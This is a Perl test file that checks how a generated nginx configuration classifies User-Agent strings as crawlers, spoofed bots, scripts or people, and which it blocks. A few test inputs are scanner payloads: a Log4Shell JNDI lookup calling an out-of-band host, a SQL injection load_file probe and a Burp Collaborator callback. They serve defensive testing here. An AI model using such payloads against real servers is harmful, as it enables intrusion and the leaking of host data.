#!/usr/bin/perl

# crawlward: who is asking, as nginx decides it from the shipped catalogue
# (nginx-conf/catalogue.yaml rendered for stock nginx, and for the module
# when CRAWLWARD_TEST_RENDER_MODULE is set): a claim is a product token, not
# a mention; the first product that names an agent names the client; a bot
# no agent names is unknown-bot; a phone's model is no bot.

###############################################################################

use warnings;
use strict;

use Test::More;

BEGIN { use FindBin; chdir($FindBin::Bin); }

use lib 'lib';
use Test::Nginx;
use Crawlward::Test;

###############################################################################

select STDERR; $| = 1;
select STDOUT; $| = 1;

# User-Agent => the agent named, its purpose, and the request's verdict and
# action on a page, from 127.0.0.1 (outside every published range)
my @cases = (
	# readers that mention Googlebot or FeedFetcher-Google are themselves
	[ 'Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)', 'Feedly feed unverified allow' ],
	[ 'FreshRSS/1.24.0 (Linux; https://freshrss.org) like Googlebot', 'FreshRSS feed unverified allow' ],
	[ 'Mozilla/5.0 (compatible; Feedspot/1.0 (+https://www.feedspot.com/fs/fetcher; like FeedFetcher-Google)', 'Feedspot feed unverified allow' ],
	[ 'Gwene/1.0 (The gwene.org rss-to-news gateway) Googlebot', 'Gwene feed unverified allow' ],
	[ 'SentiBot www.sentibot.eu (compatible with Googlebot)', 'SentiBot seo unverified block-444' ],
	[ 'Mozilla/5.0 (compatible;acapbot/0.1;treat like Googlebot)', 'acapbot seo unverified block-444' ],
	# a name inside a longer token is no claim
	[ 'Mozilla/5.0 (compatible; Fake-Googlebot/2.1)', 'Fake-Googlebot unknown-bot unverified allow' ],
	# a phone's model, a TV's vendor: people
	[ 'Mozilla/5.0 (Linux; Android 13; CUBOT P60) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36', '- - none allow' ],
	[ 'Mozilla/5.0 (Linux; Android 9; BOTECH ATV R1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/77.0 Safari/537.36 HbbTV/1.5.1 (+DRM;BOTECH;ATV R1;)', '- - none allow' ],
	[ 'Mozilla/5.0 (Linux; Android 12; IDbot553) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0 Mobile Safari/537.36', '- - none allow' ],
	# ... but a crawler's own item in a device's comment claims
	[ 'Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0 Mobile Safari/537.36', 'Storebot-Google search spoofed block-444' ],
	# clients that passed as people
	[ 'curl/8.5.0', 'curl scripting unverified block-444' ],
	[ 'Wget/1.21.4', 'Wget scripting unverified block-444' ],
	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Google Favicon', 'Google-Favicon search unverified allow' ],
	[ 'Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)', 'Slurp search unverified allow' ],
	[ 'Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)', 'Bluesky-Cardyb preview unverified allow' ],
	[ 'Miniflux/2.1.0 (https://miniflux.app; 3 subscribers)', 'Miniflux feed unverified allow' ],
	[ 'Uptime-Kuma/1.23.11', 'Uptime-Kuma monitor unverified allow' ],
	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36', 'HeadlessChrome automation unverified block-444' ],
	# a library's token yields to the agent its user names
	[ 'http.rb/5.1.1 (Mastodon/4.2.0; +https://mastodon.social/)', 'Mastodon preview unverified allow' ],
	# an unknown self-declared bot: named by its token, counted as a crawler
	[ 'Mozilla/5.0 (compatible; Rivetbot/1.0)', 'Rivetbot unknown-bot unverified allow' ],
	# ... or by the other signals: a contact, code where a name goes, a script's shape
	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@brightleaf.example', 'brightleaf.example unknown-bot unverified allow' ],
	# (the same string with Infegy's address names Infegy, a social-listening crawler the catalogue holds)
	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com', 'Infegy seo unverified block-444' ],
	[ '${jndi:ldap://${hostName}.useragent.example.oast.live}', 'unknown-bot unknown-bot unverified allow' ],
	# ... a scanner's SQL probe, or the out-of-band host it plants, in a browser's string
	[ "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0 Safari/537.36'+(select load_file('x.example'))+'", 'unknown-bot unknown-bot unverified allow' ],
	[ 'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0 Safari/537.36 root@x8f6g.burpcollaborator.net', 'x8f6g.burpcollaborator.net unknown-bot unverified allow' ],
	[ 'Hakai/2.0', 'Hakai unknown-bot unverified allow' ],
	[ 'Mozilla/5.0 (compatible; Crusader/1.0)', 'Crusader unknown-bot unverified allow' ],
	[ 'CB/Nutch-1.7', 'Nutch-1.7 unknown-bot unverified allow' ],
	# ... an e-mail address, in a browser's string too, or spelled out
	[ 'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:26.0) Gecko/20100101 Firefox/26.0 Evidon (lab@evidon.example)', 'evidon.example unknown-bot unverified allow' ],
	[ 'Surveyor/2.0 (ops at example dot org)', 'Surveyor unknown-bot unverified allow' ],
	# ... a web address, in a browser's string too (a screenshot service's)
	[ 'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 (http://www.shrinktheweb.com)', 'www.shrinktheweb.com unknown-bot unverified allow' ],
	# ... a runtime's or a package manager's product, a tool's word, a page renderer
	[ 'Mozilla/4.0 (Windows 10 10.0) Java/1.8.0_121', 'Java unknown-bot unverified allow' ],
	[ 'npm/6.14.12 node/v10.24.1 linux x64 ci/drone', 'npm unknown-bot unverified allow' ],
	[ 'Email%20Extractor/29 CFNetwork/897.15 Darwin/17.5.0 (x86_64)', 'Email%20Extractor unknown-bot unverified allow' ],
	[ 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltopdf Safari/534.34', 'wkhtmltopdf unknown-bot unverified allow' ],
	# a page-speed test appended to a browser's string
	[ 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 DebugBear', 'DebugBear monitor unverified allow' ],
	# a feed reader's fetch, and a person's feed store in Windows: feed readers, allowed
	[ 'Reeder/3.2 CFNetwork/672.1.12 Darwin/14.0.0', 'Reeder feed unverified allow' ],
	[ 'Windows-RSS-Platform/2.0 (IE 11.0; Windows NT 10.0)', 'Windows-RSS-Platform feed unverified allow' ],
	# ... but a reeder TV is a person's (Reeder is claimed only at the start)
	[ 'Mozilla/5.0 (Linux; Andr0id 11; REEDER TV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.6533.120 Safari/537.36', '- - none allow' ],
	# ... but an Android app's own client and a text browser are people's
	[ 'Dalvik/2.1.0 (Linux; U; Android 11; SM-A515F Build/RP1A.200720.012)', '- - none allow' ],
	[ 'Lynx/2.9.0dev.6 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1j-dev', '- - none allow' ],
	[ 'JOSM/1.5 (18907 en) Windows 10 64-Bit Java/17.0.9', '- - none allow' ],
	# ... but a phone's own lone product is a person's
	[ 'iPhone15ProMax', '- - none allow' ],
	[ 'Mozilla/6.0 (compatible; Amiga-AWeb)', '- - none allow' ],
	[ 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', '- - none allow' ],
	# names only in a device's comment, after many comments that "android" precedes: no claim,
	# found without PCRE giving up (it tried 2^14 ways through such a string, and gave up)
	[ 'Mozilla/5.0' . (' android(android)' x 14) . ' (android; ahrefsbot; bingbot; claudebot; dotbot; googlebot; mj12bot; petalbot; rogerbot; semrushbot; twitterbot; yandexbot; wget; python-requests)', '- - none allow' ],
	[ 'Mozilla/5.0' . (' android(android)' x 14) . ' (android; x) AhrefsBot/7.0', 'AhrefsBot seo spoofed block-444' ],
	# identification reads a User-Agent's first 512 bytes: a claim within them is one (499 bytes
	# in all), one after them is not read (613)
	[ 'Mozilla/5.0 (X11; Linux x86_64)' . (' AppleWebKit/537.36' x 20) . ' Chrome/120.0 Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot search spoofed block-444' ],
	[ 'Mozilla/5.0 (X11; Linux x86_64)' . (' AppleWebKit/537.36' x 26) . ' Chrome/120.0 Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', '- - none allow' ],
);

my $t = Test::Nginx->new()->has(qw/http rewrite map limit_req limit_conn/)
	->plan(scalar @cases + 3);

my $dir = render($t, 'nginx-conf/catalogue.yaml');
my $d = $t->testdir();
write_page($t);

$t->write_file_expand('nginx.conf', <<"EOF");

%%TEST_GLOBALS%%

daemon off;

events {
}

http {
    %%TEST_GLOBALS_HTTP%%

    include $dir/crawlward-http.conf;

    server {
        listen       127.0.0.1:%%PORT_8080%%;
        server_name  localhost;

        # what nginx decided, before the User-Agent rule acts on it
        location /who {
            return 200 "\$crawlward_agent \$crawlward_purpose \$crawlward_verdict \$crawlward_action\\n";
        }

        location / {
            include $dir/crawlward-server.conf;
            root $d/www;
            try_files /page.html =404;
        }
    }
}

EOF

$t->run();

###############################################################################

# the module names an unknown bot by its product token, the stock maps as
# unknown-bot; everything else alike
my $module = grep { /^crawlward_catalogue /m } rendered_file($t, 'crawlward-http.conf');

for my $c (@cases) {
	my ($ua, $want) = @$c;
	$want =~ s/^(?!unknown-bot|-)(\S+)( unknown-bot)/unknown-bot$2/ unless $module;
	my $got = body(get('/who', ua => $ua)) // '';
	chomp $got;
	$got = join ' ', map { length ? $_ : '-' } split / /, $got, -1;
	is($got, $want, "$want: " . substr($ua, 0, 60));
}

# the refusals happen on a page, and robots.txt answers every one of them
is(get('/record/1', ua => 'curl/8.5.0'), '', 'curl on a page: 444');
is(status(get('/robots.txt', ua => 'curl/8.5.0')), 200, 'curl, robots.txt: 200');

# every map answered every User-Agent above: PCRE hit no limit (nginx logs it at alert, and the
# map gives its default, as if nothing were claimed)
is(join("\n", error_log_lines($t, qr/_match\(\) failed|_exec\(\) failed/)), '', 'no expression gave up on a User-Agent');

###############################################################################
